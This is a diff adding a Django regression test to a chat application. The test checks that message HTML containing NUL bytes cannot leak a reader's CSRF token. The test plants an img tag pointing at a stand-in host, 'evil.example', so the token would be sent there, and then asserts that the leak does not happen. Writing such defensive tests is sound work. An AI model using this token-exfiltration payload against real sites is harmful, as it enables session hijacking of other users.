@@ -7,9 +7,11 @@ import re
 from typing import Any
 
 import pytest
+from django.db import connection
 from django.test import Client
 from django_scopes import scope
 
+from tsunagu.accounts.models import User
 from tsunagu.core.testing.talk import default_room, fill_room, make_room, post
 from tsunagu.core.testing.world import World
 from tsunagu.talk import actions
@@ -189,3 +191,22 @@ def test_older_pages_show_the_pinned_messages_and_their_fragments_do_not(world: 
     assert "talk-pinned" in client.get(path).content.decode()
     fragment = client.get(path, HTTP_HX_REQUEST="true").content.decode()
     assert "talk-pinned" not in fragment and "おはようございます 29" in fragment
+
+
+def test_text_with_a_nul_stored_by_another_path_cannot_fill_a_readers_hole(world: World) -> None:
+    if connection.vendor == "postgresql":
+        pytest.skip("PostgreSQL cannot store a NUL: the case is a database that can (SQLite)")
+    room = default_room(world.net_a)
+    message = post(world.alumni_a, room, "写真です")
+    evil = "https://evil.example/?t="
+    with scope(network=world.net_a):
+        Message.objects.filter(pk=message.pk).update(body_html=f'<img src="{evil}\x00c\x00">')
+    User.objects.filter(pk=world.alumni_a.user_id).update(name="花子\x00c\x00")
+
+    html = page(world.client(world.employee_a), world, room)
+
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html).group(1)
+    shown = message_html(html, message)
+    assert f"{evil}{token}" not in shown
+    assert f'src="{evil}\ufffdc\ufffd"' in shown and "花子\ufffdc\ufffd" in shown
+    assert "\x00" not in shown
